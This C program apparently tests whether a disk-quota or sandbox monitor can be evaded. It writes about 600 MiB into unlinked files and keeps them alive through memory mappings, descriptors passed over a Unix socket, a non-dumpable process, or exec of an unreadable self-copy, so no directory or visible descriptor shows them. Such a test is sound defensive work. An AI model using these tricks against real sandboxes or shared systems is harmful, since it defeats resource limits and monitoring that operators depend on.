// Writes far beyond the disk limit into files that no directory and no descriptor shows:
// held by a mapping only ("mmap"), on their way through a socket ("sent"), or by a process
// that may not be looked into ("dump", or "exec" of a program that is not readable).
#define _GNU_SOURCE
#include "attack.h"
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>

static char block[1 << 20];

static void run_unreadable(void) {
  int in = open("/proc/self/exe", O_RDONLY), out = open("me", O_CREAT | O_WRONLY, 0700);
  for (ssize_t n; (n = read(in, block, sizeof block)) > 0;)
    if (write(out, block, n) != n) return;
  close(out);
  chmod("me", 0111);
  execl("./me", "me", "open", NULL);
}

static void send_away(int to, int fd) {
  char control[CMSG_SPACE(sizeof fd)] = {0};
  struct iovec byte = {"x", 1};
  struct msghdr m = {.msg_iov = &byte, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *c = CMSG_FIRSTHDR(&m);
  c->cmsg_level = SOL_SOCKET;
  c->cmsg_type = SCM_RIGHTS;
  c->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(c), &fd, sizeof fd);
  if (sendmsg(to, &m, 0) < 0) perror("sendmsg");
  close(fd);
}

int main(int argc, char **argv) {
  const char *way = argc > 1 ? argv[1] : "open";
  int pair[2];
  if (!strcmp(way, "exec")) run_unreadable();
  if (!strcmp(way, "dump")) prctl(PR_SET_DUMPABLE, 0);
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 1;
  if (strcmp(way, "sent")) close(pair[0]), close(pair[1]);
  memset(block, 7, sizeof block);
  for (int i = 0; i < 20; i++) {
    int fd = open("f", O_CREAT | O_RDWR | O_EXCL, 0600);
    unlink("f");
    for (int k = 0; k < 30; k++)
      if (write(fd, block, sizeof block) < 0) return 1;
    if (!strcmp(way, "mmap")) {
      if (mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0) == MAP_FAILED) return 1;
      close(fd);
    }
    if (!strcmp(way, "sent")) send_away(pair[0], fd);
  }
  sleep(10);
  escaped("600 MiB of hidden files");
  return 0;
}
